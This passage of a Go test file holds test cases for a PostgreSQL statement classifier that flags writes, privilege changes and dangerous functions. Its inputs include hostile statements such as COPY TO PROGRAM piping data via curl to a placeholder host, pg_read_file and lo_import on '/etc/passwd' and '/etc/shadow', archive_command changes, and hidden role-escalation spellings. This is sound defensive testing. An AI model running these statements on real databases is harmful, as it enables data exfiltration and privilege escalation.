package sqlclass

import (
	"slices"
	"strings"
	"testing"
)

// exp is the expected classification of one statement. Reads and Writes
// are always compared ("schema.name"); Functions and Dangerous only when
// not nil.
type exp struct {
	kind      Kind
	cmd       string
	reads     []string
	writes    []string
	funcs     []string
	dangerous []string
}

type corpusCase struct {
	name  string
	path  []string // initial search_path (nil: default)
	setup []string // queries classified and applied before sql
	sql   string
	want  []exp
}

func l(s ...string) []string {
	if s == nil {
		return []string{}
	}
	return s
}

var none = []string{}

var corpus = []corpusCase{
	// Comments, casing, quoting.
	{name: "comment hides nothing", sql: "/* DELETE */ SELECT 1", want: []exp{{kind: KindSelect, cmd: "SELECT"}}},
	{name: "line comment before drop", sql: "-- x\nDROP TABLE t", want: []exp{{kind: KindDDL, cmd: "DROP TABLE", writes: l("public.t")}}},
	{name: "nested block comment", sql: "/* a /* b */ DELETE FROM x */ SELECT * FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t")}}},
	{name: "mixed case keywords and names", sql: "dElEtE fRoM T", want: []exp{{kind: KindDelete, cmd: "DELETE", writes: l("public.t")}}},
	{name: "quoted identifiers keep case", sql: `UPDATE "Sales"."Order Items" SET qty = 1`, want: []exp{{kind: KindUpdate, cmd: "UPDATE", writes: l("Sales.Order Items")}}},
	{name: "quoted unqualified", sql: `SELECT * FROM "MyTable"`, want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.MyTable")}}},
	{name: "dollar quoted string is data", sql: "SELECT $tag$ DROP TABLE x; DELETE FROM y $tag$", want: []exp{{kind: KindSelect, cmd: "SELECT"}}},
	{name: "string with semicolon", sql: "SELECT ';DROP TABLE t;' FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t")}}},
	{name: "catalog qualified name", sql: "SELECT * FROM mydb.app.users", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("app.users")}}},
	{name: "information_schema qualified", sql: "SELECT table_name FROM information_schema.tables", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("information_schema.tables")}}},
	{name: "pg_catalog unqualified", sql: "SELECT * FROM pg_stat_activity a JOIN pg_class c ON true", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("pg_catalog.pg_stat_activity", "pg_catalog.pg_class")}}},

	// CTEs.
	{name: "cte delete", sql: "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", want: []exp{{kind: KindDelete, cmd: "SELECT", writes: l("public.t")}}},
	{name: "cte insert select", sql: "WITH moved AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM moved", want: []exp{{kind: KindDelete, cmd: "INSERT", writes: l("public.a", "public.b")}}},
	{name: "cte name is not a relation", sql: "WITH x AS (SELECT * FROM t) SELECT * FROM x JOIN u ON true", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t", "public.u")}}},
	{name: "cte referencing same-named table", sql: "WITH t AS (SELECT * FROM t) SELECT * FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t")}}},
	{name: "recursive cte", sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", want: []exp{{kind: KindSelect, cmd: "SELECT"}}},
	{name: "cte scope ends with its statement", sql: "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.x")}}},
	{name: "nested cte write in subquery", sql: "SELECT * FROM t WHERE id IN (WITH d AS (UPDATE u SET a = 1 RETURNING id) SELECT id FROM d)", want: []exp{{kind: KindUpdate, cmd: "SELECT", reads: l("public.t"), writes: l("public.u")}}},
	{name: "cte write in from subquery", sql: "SELECT * FROM (WITH d AS (DELETE FROM logs RETURNING *) SELECT * FROM d) s", want: []exp{{kind: KindDelete, cmd: "SELECT", writes: l("public.logs")}}},
	{name: "later cte sees earlier", sql: "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", want: []exp{{kind: KindSelect, cmd: "SELECT"}}},
	{name: "earlier cte does not see later", sql: "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.b")}}},

	// DDL from queries.
	{name: "select into", sql: "SELECT a, b INTO newtable FROM src WHERE a > 1", want: []exp{{kind: KindDDL, cmd: "SELECT INTO", reads: l("public.src"), writes: l("public.newtable")}}},
	{name: "create table as", sql: "CREATE TABLE archive.old AS SELECT * FROM orders", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE AS", reads: l("public.orders"), writes: l("archive.old")}}},
	{name: "create materialized view", sql: "CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM t", want: []exp{{kind: KindDDL, cmd: "CREATE MATERIALIZED VIEW", reads: l("public.t"), writes: l("public.mv"), funcs: l("count")}}},
	{name: "create view", sql: "CREATE OR REPLACE VIEW v AS SELECT * FROM t JOIN u USING (id)", want: []exp{{kind: KindDDL, cmd: "CREATE VIEW", reads: l("public.t", "public.u"), writes: l("public.v")}}},

	// EXPLAIN.
	{name: "explain does not run", sql: "EXPLAIN DELETE FROM t", want: []exp{{kind: KindExplain, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "explain analyze runs", sql: "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", want: []exp{{kind: KindDelete, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "explain analyze options", sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", want: []exp{{kind: KindUpdate, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "explain analyze true", sql: "EXPLAIN (FORMAT JSON, ANALYZE true) INSERT INTO t VALUES (1)", want: []exp{{kind: KindInsert, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "explain analyze false", sql: "EXPLAIN (ANALYZE false) DELETE FROM t", want: []exp{{kind: KindExplain, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "explain analyze off", sql: "EXPLAIN (ANALYZE off, COSTS true) SELECT * FROM t", want: []exp{{kind: KindExplain, cmd: "EXPLAIN", reads: l("public.t")}}},
	{name: "explain verbose only", sql: "EXPLAIN VERBOSE SELECT * FROM t", want: []exp{{kind: KindExplain, cmd: "EXPLAIN", reads: l("public.t")}}},
	{name: "explain of user function still calls", sql: "EXPLAIN SELECT my_fn()", want: []exp{{kind: KindCall, cmd: "EXPLAIN", funcs: l("my_fn")}}},
	{name: "explain create table as", sql: "EXPLAIN CREATE TABLE x AS SELECT * FROM t", want: []exp{{kind: KindExplain, cmd: "EXPLAIN", reads: l("public.t"), writes: l("public.x")}}},

	// PREPARE / EXECUTE / DEALLOCATE.
	{name: "prepare has body kind", sql: "PREPARE del(int) AS DELETE FROM t WHERE id = $1", want: []exp{{kind: KindDelete, cmd: "PREPARE", writes: l("public.t")}}},
	{name: "prepare select", sql: "PREPARE q AS SELECT * FROM t", want: []exp{{kind: KindSelect, cmd: "PREPARE", reads: l("public.t")}}},
	{name: "execute unknown", sql: "EXECUTE nope(1)", want: []exp{{kind: KindExecute, cmd: "EXECUTE"}}},
	{name: "execute known from session", setup: l("PREPARE del(int) AS DELETE FROM t WHERE id = $1"), sql: "EXECUTE del(1)", want: []exp{{kind: KindDelete, cmd: "EXECUTE", writes: l("public.t")}}},
	{name: "prepare and execute in one query", sql: "PREPARE p AS UPDATE t SET a = 1; EXECUTE p", want: []exp{{kind: KindUpdate, cmd: "PREPARE", writes: l("public.t")}, {kind: KindUpdate, cmd: "EXECUTE", writes: l("public.t")}}},
	{name: "deallocate then execute", sql: "PREPARE p AS DELETE FROM t; DEALLOCATE p; EXECUTE p", want: []exp{{kind: KindDelete, cmd: "PREPARE", writes: l("public.t")}, {kind: KindUtility, cmd: "DEALLOCATE"}, {kind: KindExecute, cmd: "EXECUTE"}}},
	{name: "deallocate all", setup: l("PREPARE p AS DELETE FROM t"), sql: "DEALLOCATE ALL; EXECUTE p", want: []exp{{kind: KindUtility, cmd: "DEALLOCATE ALL"}, {kind: KindExecute, cmd: "EXECUTE"}}},
	{name: "execute params are walked", setup: l("PREPARE q(int) AS SELECT * FROM t WHERE id = $1"), sql: "EXECUTE q((SELECT max(id) FROM secrets))", want: []exp{{kind: KindSelect, cmd: "EXECUTE", reads: l("public.t", "public.secrets")}}},
	{name: "explain execute does not run", setup: l("PREPARE p AS DELETE FROM t"), sql: "EXPLAIN EXECUTE p", want: []exp{{kind: KindExplain, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "explain analyze execute runs", setup: l("PREPARE p AS DELETE FROM t"), sql: "EXPLAIN ANALYZE EXECUTE p", want: []exp{{kind: KindDelete, cmd: "EXPLAIN", writes: l("public.t")}}},
	{name: "create table as execute", setup: l("PREPARE q AS SELECT * FROM t"), sql: "CREATE TABLE copy AS EXECUTE q", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE AS", reads: l("public.t"), writes: l("public.copy")}}},

	// DO, CALL, functions.
	{name: "do block", sql: "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", want: []exp{{kind: KindDo, cmd: "DO"}}},
	{name: "do with language", sql: "DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", want: []exp{{kind: KindDo, cmd: "DO"}}},
	{name: "call procedure", sql: "CALL app.refresh_totals(1)", want: []exp{{kind: KindCall, cmd: "CALL", funcs: l("app.refresh_totals")}}},
	{name: "user function makes call", sql: "SELECT my_fn(a), count(*) FROM t GROUP BY 1", want: []exp{{kind: KindCall, cmd: "SELECT", reads: l("public.t"), funcs: l("my_fn", "count"), dangerous: none}}},
	{name: "builtins are fine", sql: "SELECT lower(name), now(), coalesce(a, 0), sum(b) FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t"), funcs: l("lower", "now", "sum")}}},
	{name: "schema qualified lookalike is not builtin", sql: "SELECT public.lower('X')", want: []exp{{kind: KindCall, cmd: "SELECT", funcs: l("public.lower")}}},
	{name: "pg_catalog qualified builtin", sql: "SELECT pg_catalog.upper('x')", want: []exp{{kind: KindSelect, cmd: "SELECT", funcs: l("pg_catalog.upper")}}},
	{name: "casts are not calls", sql: "SELECT '1'::int, CAST(a AS text) FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t"), funcs: none}}},
	{name: "window function", sql: "SELECT id, row_number() OVER (PARTITION BY grp ORDER BY ts) FROM events", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.events"), funcs: l("row_number")}}},
	{name: "set returning function in from", sql: "SELECT * FROM generate_series(1, 10) g", want: []exp{{kind: KindSelect, cmd: "SELECT", funcs: l("generate_series")}}},
	{name: "function in order by", sql: "SELECT * FROM t ORDER BY my_rank(t.id)", want: []exp{{kind: KindCall, cmd: "SELECT", reads: l("public.t"), funcs: l("my_rank")}}},

	// Dangerous functions.
	{name: "pg_read_file", sql: "SELECT pg_read_file('/etc/passwd')", want: []exp{{kind: KindDangerous, cmd: "SELECT", funcs: l("pg_read_file"), dangerous: l("pg_read_file")}}},
	{name: "dangerous in subquery", sql: "SELECT * FROM t WHERE a = (SELECT pg_read_file('x'))", want: []exp{{kind: KindDangerous, cmd: "SELECT", reads: l("public.t"), dangerous: l("pg_read_file")}}},
	{name: "dangerous qualified", sql: "SELECT pg_catalog.pg_read_file('postgresql.conf')", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("pg_catalog.pg_read_file")}}},
	{name: "dangerous in values", sql: "INSERT INTO t VALUES (1, lo_import('/etc/shadow'))", want: []exp{{kind: KindDangerous, cmd: "INSERT", writes: l("public.t"), dangerous: l("lo_import")}}},
	{name: "dangerous as default", sql: "CREATE TABLE t (a text DEFAULT pg_read_file('x'))", want: []exp{{kind: KindDangerous, cmd: "CREATE TABLE", writes: l("public.t"), dangerous: l("pg_read_file")}}},
	{name: "dangerous glob ls dir", sql: "SELECT * FROM pg_ls_waldir()", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("pg_ls_waldir")}}},
	{name: "dblink", sql: "SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("dblink")}}},
	{name: "query_to_xml hides sql", sql: "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("query_to_xml")}}},
	// Functional notation: (expr).f is a call of f(expr) when no field f
	// exists, and sluice cannot tell which.
	{name: "dangerous function in field notation", sql: "SELECT ('/etc/passwd'::text).pg_read_file", want: []exp{{kind: KindDangerous, cmd: "SELECT", funcs: l("pg_read_file"), dangerous: l("pg_read_file")}}},
	{name: "dblink_exec in field notation", sql: "SELECT ('DELETE FROM hr.x'::text).dblink_exec", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("dblink_exec")}}},
	{name: "lo_unlink in field notation", sql: "SELECT (16384::oid).lo_unlink", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("lo_unlink")}}},
	{name: "nextval in field notation hides its sequence", sql: "SELECT ('public.s'::text).nextval", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("nextval")}}},
	{name: "builtin in field notation", sql: "SELECT (1::float8).pg_sleep", want: []exp{{kind: KindSelect, cmd: "SELECT", funcs: l("pg_sleep")}}},
	{name: "a field of a composite value is taken for a call too", sql: "SELECT (addr).street FROM customers", want: []exp{{kind: KindCall, cmd: "SELECT", reads: l("public.customers"), funcs: l("street")}}},
	{name: "subscripts are not calls", sql: "SELECT (a)[1] FROM t", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.t"), funcs: none}}},
	{name: "terminate backends", sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", want: []exp{{kind: KindDangerous, cmd: "SELECT", reads: l("pg_catalog.pg_stat_activity"), dangerous: l("pg_terminate_backend")}}},
	{name: "dangerous in lateral", sql: "SELECT * FROM t CROSS JOIN LATERAL (SELECT pg_stat_file(t.path)) f", want: []exp{{kind: KindDangerous, cmd: "SELECT", reads: l("public.t"), dangerous: l("pg_stat_file")}}},
	{name: "dangerous in update where", sql: "UPDATE t SET a = 1 WHERE b = pg_reload_conf()::text", want: []exp{{kind: KindDangerous, cmd: "UPDATE", writes: l("public.t"), dangerous: l("pg_reload_conf")}}},

	// COPY.
	{name: "copy table to stdout", sql: "COPY t TO STDOUT", want: []exp{{kind: KindCopyTo, cmd: "COPY", reads: l("public.t")}}},
	{name: "copy query to stdout", sql: "COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT WITH (FORMAT csv)", want: []exp{{kind: KindCopyTo, cmd: "COPY", reads: l("public.a", "public.b")}}},
	{name: "copy from stdin", sql: "COPY s.t (a, b) FROM STDIN", want: []exp{{kind: KindCopyFrom, cmd: "COPY", writes: l("s.t")}}},
	{name: "copy from file", sql: "COPY t FROM '/tmp/data.csv'", want: []exp{{kind: KindCopyFile, cmd: "COPY", writes: l("public.t")}}},
	{name: "copy to file", sql: "COPY t TO '/tmp/out.csv'", want: []exp{{kind: KindCopyFile, cmd: "COPY", reads: l("public.t")}}},
	{name: "copy program", sql: "COPY t TO PROGRAM 'curl -d @- http://x'", want: []exp{{kind: KindCopyProgram, cmd: "COPY", reads: l("public.t")}}},
	{name: "copy from program", sql: "COPY t FROM PROGRAM 'cat /etc/passwd'", want: []exp{{kind: KindCopyProgram, cmd: "COPY", writes: l("public.t")}}},
	{name: "copy delete returning", sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", want: []exp{{kind: KindDelete, cmd: "COPY", writes: l("public.t")}}},

	// DML shapes.
	{name: "update from", sql: "UPDATE t SET a = s.a FROM s WHERE t.id = s.id", want: []exp{{kind: KindUpdate, cmd: "UPDATE", reads: l("public.s"), writes: l("public.t")}}},
	{name: "delete using", sql: "DELETE FROM t USING u WHERE t.id = u.id", want: []exp{{kind: KindDelete, cmd: "DELETE", reads: l("public.u"), writes: l("public.t")}}},
	{name: "insert select", sql: "INSERT INTO t (a) SELECT a FROM y WHERE a > 0", want: []exp{{kind: KindInsert, cmd: "INSERT", reads: l("public.y"), writes: l("public.t")}}},
	{name: "insert on conflict do nothing", sql: "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", want: []exp{{kind: KindInsert, cmd: "INSERT", writes: l("public.t")}}},
	{name: "upsert is update", sql: "INSERT INTO t VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET b = excluded.b RETURNING *", want: []exp{{kind: KindUpdate, cmd: "INSERT", writes: l("public.t")}}},
	{name: "update with subselect in set", sql: "UPDATE t SET a = (SELECT max(b) FROM u) RETURNING id", want: []exp{{kind: KindUpdate, cmd: "UPDATE", reads: l("public.u"), writes: l("public.t")}}},
	{name: "self join update reads and writes", sql: "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM t WHERE b)", want: []exp{{kind: KindUpdate, cmd: "UPDATE", reads: l("public.t"), writes: l("public.t")}}},
	{name: "lateral join", sql: "SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id LIMIT 1) s", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.a", "public.b")}}},
	{name: "exists subquery", sql: "SELECT 1 FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.x = a.x)", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.a", "public.b")}}},
	{name: "union", sql: "SELECT a FROM x UNION SELECT a FROM y", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.x", "public.y")}}},
	{name: "table command", sql: "TABLE accounts", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.accounts")}}},
	{name: "values", sql: "VALUES (1), (2)", want: []exp{{kind: KindSelect, cmd: "SELECT"}}},
	{name: "for update is select", sql: "SELECT * FROM jobs j WHERE state = 'new' FOR UPDATE OF j SKIP LOCKED", want: []exp{{kind: KindSelect, cmd: "SELECT", reads: l("public.jobs")}}},
	{name: "merge", sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", want: []exp{{kind: KindMerge, cmd: "MERGE", reads: l("public.s"), writes: l("public.t")}}},
	{name: "merge with delete", sql: "MERGE INTO t USING (SELECT * FROM s) src ON t.id = src.id WHEN MATCHED THEN DELETE", want: []exp{{kind: KindDelete, cmd: "MERGE", reads: l("public.s"), writes: l("public.t")}}},
	{name: "truncate several", sql: "TRUNCATE a, app.b RESTART IDENTITY CASCADE", want: []exp{{kind: KindTruncate, cmd: "TRUNCATE TABLE", writes: l("public.a", "app.b")}}},

	// Privileges and roles.
	{name: "grant", sql: "GRANT SELECT, INSERT ON t, app.u TO bob", want: []exp{{kind: KindGrant, cmd: "GRANT", writes: l("public.t", "app.u")}}},
	{name: "revoke", sql: "REVOKE ALL ON ALL TABLES IN SCHEMA app FROM public", want: []exp{{kind: KindGrant, cmd: "REVOKE"}}},
	{name: "grant role", sql: "GRANT admin TO mallory", want: []exp{{kind: KindGrant, cmd: "GRANT ROLE"}}},
	{name: "create role", sql: "CREATE ROLE x LOGIN SUPERUSER PASSWORD 'p'", want: []exp{{kind: KindGrant, cmd: "CREATE ROLE"}}},
	{name: "create user", sql: "CREATE USER y", want: []exp{{kind: KindGrant, cmd: "CREATE ROLE"}}},
	{name: "alter default privileges", sql: "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO r", want: []exp{{kind: KindGrant, cmd: "ALTER DEFAULT PRIVILEGES"}}},
	{name: "alter table owner", sql: "ALTER TABLE t OWNER TO mallory", want: []exp{{kind: KindGrant, cmd: "ALTER TABLE", writes: l("public.t")}}},
	{name: "alter role set search_path does not change session", sql: "ALTER ROLE bob SET search_path = evil; SELECT * FROM t", want: []exp{{kind: KindGrant, cmd: "ALTER ROLE"}, {kind: KindSelect, cmd: "SELECT", reads: l("public.t")}}},

	// Other DDL.
	{name: "drop several", sql: "DROP TABLE IF EXISTS t, s.u CASCADE", want: []exp{{kind: KindDDL, cmd: "DROP TABLE", writes: l("public.t", "s.u")}}},
	{name: "drop index", sql: "DROP INDEX CONCURRENTLY app.idx", want: []exp{{kind: KindDDL, cmd: "DROP INDEX", writes: l("app.idx")}}},
	{name: "drop trigger", sql: "DROP TRIGGER trg ON app.t", want: []exp{{kind: KindDDL, cmd: "DROP TRIGGER", writes: l("app.t")}}},
	{name: "drop function", sql: "DROP FUNCTION f(int)", want: []exp{{kind: KindDDL, cmd: "DROP FUNCTION"}}},
	{name: "create index", sql: "CREATE INDEX CONCURRENTLY idx ON t (lower(email))", want: []exp{{kind: KindDDL, cmd: "CREATE INDEX", writes: l("public.t"), funcs: l("lower")}}},
	{name: "alter table add fk", sql: "ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (cid) REFERENCES customers (id)", want: []exp{{kind: KindDDL, cmd: "ALTER TABLE", reads: l("public.customers"), writes: l("public.orders")}}},
	{name: "alter column type using", sql: "ALTER TABLE t ALTER COLUMN c TYPE int USING pg_read_file(c)::int", want: []exp{{kind: KindDangerous, cmd: "ALTER TABLE", writes: l("public.t"), dangerous: l("pg_read_file")}}},
	{name: "create table like and references", sql: "CREATE TABLE n (LIKE tmpl INCLUDING ALL, cid int REFERENCES c (id))", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE", reads: l("public.tmpl", "public.c"), writes: l("public.n")}}},
	{name: "create partition", sql: "CREATE TABLE m_2024 PARTITION OF m FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')", want: []exp{{kind: KindDDL, cmd: "CREATE TABLE", writes: l("public.m_2024", "public.m")}}},
	{name: "rename table", sql: "ALTER TABLE t RENAME TO u", want: []exp{{kind: KindDDL, cmd: "ALTER TABLE", writes: l("public.t", "public.u")}}},
	{name: "set schema", sql: "ALTER TABLE t SET SCHEMA archive", want: []exp{{kind: KindDDL, cmd: "ALTER TABLE", writes: l("public.t", "archive.t")}}},
	{name: "comment on column", sql: "COMMENT ON COLUMN app.t.c IS 'x'", want: []exp{{kind: KindDDL, cmd: "COMMENT", writes: l("app.t")}}},
	{name: "comment on table", sql: "COMMENT ON TABLE t IS 'x'", want: []exp{{kind: KindDDL, cmd: "COMMENT", writes: l("public.t")}}},
	{name: "create schema with elements", sql: "CREATE SCHEMA s CREATE TABLE t (id int) CREATE VIEW v AS SELECT * FROM u", want: []exp{{kind: KindDDL, cmd: "CREATE SCHEMA", reads: l("public.u"), writes: l("s.t", "s.v")}}},
	{name: "import foreign schema", sql: "IMPORT FOREIGN SCHEMA remote LIMIT TO (a, b) FROM SERVER srv INTO local", want: []exp{{kind: KindDDL, cmd: "IMPORT FOREIGN SCHEMA", writes: l("local.a", "local.b")}}},
	{name: "create extension", sql: "CREATE EXTENSION IF NOT EXISTS dblink", want: []exp{{kind: KindDDL, cmd: "CREATE EXTENSION"}}},
	{name: "create function body is walked", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END", want: []exp{{kind: KindDDL, cmd: "CREATE FUNCTION", writes: l("public.t")}}},
	{name: "create rule", sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD INSERT INTO log VALUES (1)", want: []exp{{kind: KindDDL, cmd: "CREATE RULE", writes: l("public.t", "public.log")}}},
	{name: "refresh materialized view", sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", want: []exp{{kind: KindDDL, cmd: "REFRESH MATERIALIZED VIEW", writes: l("public.mv")}}},
	{name: "vacuum", sql: "VACUUM (ANALYZE) t, app.u", want: []exp{{kind: KindDDL, cmd: "VACUUM", writes: l("public.t", "app.u")}}},
	{name: "analyze", sql: "ANALYZE t", want: []exp{{kind: KindDDL, cmd: "ANALYZE", writes: l("public.t")}}},
	{name: "alter system", sql: "ALTER SYSTEM SET archive_command = 'curl x'", want: []exp{{kind: KindDangerous, cmd: "ALTER SYSTEM"}}},
	{name: "load", sql: "LOAD 'plugin'", want: []exp{{kind: KindDangerous, cmd: "LOAD"}}},
	{name: "create server", sql: "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", want: []exp{{kind: KindDDL, cmd: "CREATE SERVER"}}},

	// Utilities, settings, transactions, cursors.
	{name: "lock", sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", want: []exp{{kind: KindUtility, cmd: "LOCK TABLE", writes: l("public.t")}}},
	{name: "listen notify", sql: "LISTEN ch; NOTIFY ch, 'x'; UNLISTEN *", want: []exp{{kind: KindUtility, cmd: "LISTEN"}, {kind: KindUtility, cmd: "NOTIFY"}, {kind: KindUtility, cmd: "UNLISTEN"}}},
	{name: "discard checkpoint", sql: "DISCARD ALL; CHECKPOINT", want: []exp{{kind: KindUtility, cmd: "DISCARD ALL"}, {kind: KindUtility, cmd: "CHECKPOINT"}}},
	{name: "show", sql: "SHOW search_path", want: []exp{{kind: KindShow, cmd: "SHOW"}}},
	{name: "set role", sql: "SET ROLE admin; SET SESSION AUTHORIZATION bob; RESET ROLE", want: []exp{{kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "RESET"}}},
	{name: "set role, other spellings", sql: `SET LOCAL ROLE admin; SET role = 'admin'; SET "ROLE" TO admin; SET ROLE NONE; SET SESSION AUTHORIZATION DEFAULT; RESET SESSION AUTHORIZATION`, want: []exp{{kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "SET"}, {kind: KindSetRole, cmd: "RESET"}}},
	{name: "settings that are not the role", sql: "SET statement_timeout = '5s'; SET session_replication_role = replica; RESET ALL", want: []exp{{kind: KindSet, cmd: "SET"}, {kind: KindSet, cmd: "SET"}, {kind: KindSet, cmd: "RESET"}}},
	{name: "set_config of the role", sql: "SELECT set_config('role', 'admin', false); SELECT pg_catalog.set_config('Session_Authorization', 'bob', true)", want: []exp{{kind: KindSetRole, cmd: "SELECT", funcs: l("set_config"), dangerous: none}, {kind: KindSetRole, cmd: "SELECT", funcs: l("pg_catalog.set_config"), dangerous: none}}},
	{name: "set_config of the role inside a read", sql: "SELECT id, set_config('role', 'admin', false) FROM t WHERE id = 1", want: []exp{{kind: KindSetRole, cmd: "SELECT", reads: l("public.t"), funcs: l("set_config"), dangerous: none}}},
	{name: "set_config of a cast name", sql: "SELECT set_config('roleXYZ'::varchar(4), 'admin', false); SELECT set_config('role   '::char(7), 'admin', false); SELECT set_config(varchar(4) 'roleX', 'admin', true); SELECT set_config('role'::text, 'admin', false)", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("set_config")}, {kind: KindDangerous, cmd: "SELECT", dangerous: l("set_config")}, {kind: KindDangerous, cmd: "SELECT", dangerous: l("set_config")}, {kind: KindDangerous, cmd: "SELECT", dangerous: l("set_config")}}},
	{name: "set_config of a cast name inside a read", sql: "SELECT id, set_config('roleX'::varchar(4), 'admin', false) FROM t", want: []exp{{kind: KindDangerous, cmd: "SELECT", reads: l("public.t"), dangerous: l("set_config")}}},
	{name: "set_config of search_path to a cast value", sql: "SELECT set_config('search_path', 'evil, public'::varchar(4), false)", want: []exp{{kind: KindDangerous, cmd: "SELECT", dangerous: l("set_config")}}},
	{name: "role defaults in DDL keep the DDL's kind", sql: "ALTER ROLE CURRENT_USER SET role = 'admin'; ALTER DATABASE d SET role = 'admin'; ALTER FUNCTION f() SET role = 'admin'; CREATE FUNCTION g() RETURNS int LANGUAGE sql SET role = 'admin' AS 'SELECT 1'", want: []exp{{kind: KindGrant, cmd: "ALTER ROLE"}, {kind: KindDDL, cmd: "ALTER DATABASE"}, {kind: KindDDL, cmd: "ALTER FUNCTION"}, {kind: KindDDL, cmd: "CREATE FUNCTION"}}},
	{name: "set_config of the role in a CTE of a delete", sql: "WITH r AS (SELECT set_config('role', 'admin', true)) DELETE FROM t", want: []exp{{kind: KindSetRole, cmd: "DELETE", writes: l("public.t"), funcs: l("set_config"), dangerous: none}}},
	{name: "transaction statements", sql: "BEGIN; SAVEPOINT a; RELEASE a; ROLLBACK TO a; COMMIT; START TRANSACTION; ABORT; END", want: []exp{{kind: KindTransaction, cmd: "BEGIN"}, {kind: KindTransaction, cmd: "SAVEPOINT"}, {kind: KindTransaction, cmd: "RELEASE"}, {kind: KindTransaction, cmd: "ROLLBACK"}, {kind: KindTransaction, cmd: "COMMIT"}, {kind: KindTransaction, cmd: "START TRANSACTION"}, {kind: KindTransaction, cmd: "ROLLBACK"}, {kind: KindTransaction, cmd: "COMMIT"}}},
	{name: "cursor", sql: "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t; FETCH 10 FROM c; MOVE NEXT IN c; CLOSE c", want: []exp{{kind: KindSelect, cmd: "DECLARE CURSOR", reads: l("public.t")}, {kind: KindSelect, cmd: "FETCH"}, {kind: KindUtility, cmd: "MOVE"}, {kind: KindUtility, cmd: "CLOSE CURSOR"}}},
	{name: "delete where current of", sql: "DELETE FROM t WHERE CURRENT OF c", want: []exp{{kind: KindDelete, cmd: "DELETE", writes: l("public.t")}}},

	// Multi-statement, empty, unparseable.
	{name: "multi statement", sql: "SELECT 1; DROP TABLE x", want: []exp{{kind: KindSelect, cmd: "SELECT"}, {kind: KindDDL, cmd: "DROP TABLE", writes: l("public.x")}}},
	{name: "empty", sql: "", want: []exp{{kind: KindEmpty}}},
	{name: "only comments", sql: "  -- nothing\n /* at all */ ", want: []exp{{kind: KindEmpty}}},
	{name: "only semicolons", sql: " ; ;", want: []exp{{kind: KindEmpty}}},
